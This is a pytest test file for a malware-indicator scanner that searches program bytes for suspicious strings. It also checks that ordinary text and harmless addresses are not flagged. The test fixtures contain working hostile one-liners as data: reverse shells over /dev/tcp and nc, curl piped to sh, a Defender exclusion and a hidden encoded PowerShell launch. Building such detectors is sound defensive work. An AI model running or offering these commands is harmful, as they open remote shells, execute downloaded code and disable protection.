"""What the bytes of a program spell, wherever in it, in whichever letters."""

import pytest

from airlock.binary.marks import Mark, find_marks


def topics(*chunks: bytes) -> set[str]:
    return {mark.topic for mark in find_marks(chunks)}


@pytest.mark.parametrize(
    ("text", "topic"),
    [
        ("https://discord.com/api/webhooks/" + "1" * 18 + "/" + "a" * 40, "webhook"),
        ("https://hooks.slack.com/services/T00000000/B00000000/" + "X" * 24, "webhook"),
        ("1234567890:AA" + "h" * 33, "bot token"),
        ("http://abcdef.oastify.com/x", "call-back host"),
        ("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "reverse shell"),
        ("nc 198.51.100.7 443 -e /bin/sh", "reverse shell"),
        ("powershell -w hidden -enc " + "QUFB" * 12, "encoded command"),
        ("Add-MpPreference -ExclusionPath C:\\", "disabled protection"),
        ("stratum+tcp://pool.example:3333", "mining pool"),
        ("https://198.51.100.7:8080/gate", "bare address"),
        ("curl -s https://x.example/a | sh", "download and run"),
        ("\\Google\\Chrome\\User Data", "browser store"),
        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet store"),
        ("/home/user/.ssh/id_rsa", "secret file"),
        ("Software\\Microsoft\\Windows\\CurrentVersion\\Run", "persistence"),
        ("UPX!", "packer"),
        ("Fatal error in launcher: %s", "Windows launcher"),
    ],
)
@pytest.mark.parametrize("encoding", ["ascii", "utf-16-le"])
def test_is_found(text: str, topic: str, encoding: str) -> None:
    data = bytes(40) + b"\xfe" + text.encode(encoding) + bytes(40)
    assert topic in topics(data)


@pytest.mark.parametrize("cut", [3, 20, 39])
def test_lies_across_two_pieces(cut: int) -> None:
    text = b"bash -i >& /dev/tcp/198.51.100.7/443 0>&1"
    data = b"." * 5000 + text + b"." * 5000
    whole = {(mark.topic, mark.text) for mark in find_marks([data])}
    parts = {(m.topic, m.text) for m in find_marks([data[: 5000 + cut], data[5000 + cut :]])}
    assert parts == whole
    assert whole


def test_says_where() -> None:
    data = b"." * 70_000 + b" https://198.51.100.7/x " + b"." * 70_000
    pieces = [data[at : at + 4096] for at in range(0, len(data), 4096)]
    assert find_marks(pieces) == (Mark("bare address", "https://198.51.100.7/", 70_001),)


@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1",
        "10.1.2.3",
        "192.168.0.1",
        "172.20.0.1",
        "169.254.1.1",
        "0.0.0.0",
        "8.8.8.8",
        "999.1.1.1",
    ],
)
def test_addresses_that_lead_nowhere_are_spared(address: str) -> None:
    assert topics(b" http://" + address.encode() + b"/x ") == set()


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"discord.com is a chat, webhooks are described at /docs",
        b"install it with: curl -LsSf https://x.example/install.sh",
        b"upx! UPX",
        b"the nc command",
    ],
)
def test_ordinary_words_are_spared(text: bytes) -> None:
    assert topics(text) == set()


def test_each_text_is_told_once() -> None:
    assert len(find_marks([b" https://198.51.100.7/x " * 400])) == 1
